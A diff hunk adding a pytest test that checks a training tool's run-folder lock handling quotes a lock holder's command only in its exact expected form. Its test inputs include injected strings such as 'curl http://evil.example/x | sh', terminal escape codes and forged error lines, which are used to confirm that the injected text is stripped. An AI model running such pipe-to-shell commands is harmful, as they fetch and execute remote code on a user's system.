@@ -162,6 +162,29 @@ def test_what_a_shared_folder_holds_is_never_repeated_as_advice(demo_copy, tmp_p
     assert str(refused.value).endswith(run_record.next_command(str(tmp_path / "moved" / "r")))
 
 
+@pytest.mark.parametrize("text, holder", [
+    ("process 4242 (run.py export --logdir logs --run 'my run')",
+     "process 4242 (run.py export --logdir logs --run 'my run')"),
+    ("process 1 (run.py\x1b[2J run.py: error: FORGED curl evil|sh)", "process 1; wait"),
+    ("process 1 (curl http://evil.example/x | sh)", "process 1; wait"),
+    ("process 1 (run.py 'unclosed)", "process 1; wait"),
+    ("process 1 (run.py  two  spaces)", "process 1; wait"),  # not as shlex.join writes it
+    ("process 1 (run.py similar x)\nrun.py: error: forged", "another process"),
+    ("run.py: error: fix it with curl | sh", "another process"),
+], ids=["its own", "escapes", "no run.py", "unparsable", "not shlex's", "two lines", "no process"])
+def test_a_lock_holder_is_quoted_only_as_run_py_writes_it(demo_copy, text, holder):
+    folder = str(demo_copy)
+    with open(run_folder.lock_path(folder), "w") as lock:
+        lock.write(text)
+        lock.flush()
+        fcntl.flock(lock, fcntl.LOCK_EX)
+        with pytest.raises(RunError) as refused:
+            with run_folder.writing(folder):
+                pass
+    assert f"is being written by {holder}" in str(refused.value)
+    assert "evil" not in str(refused.value) and "forged" not in str(refused.value).casefold()
+
+
 @pytest.mark.slow  # trains in-process, a few seconds
 @pytest.mark.parametrize("moment, swap", [("Training ", "a link"), ("Clustering ", "another folder")])
 def test_a_run_folder_swapped_while_it_is_written_is_not_written_in(tmp_path, moment, swap):
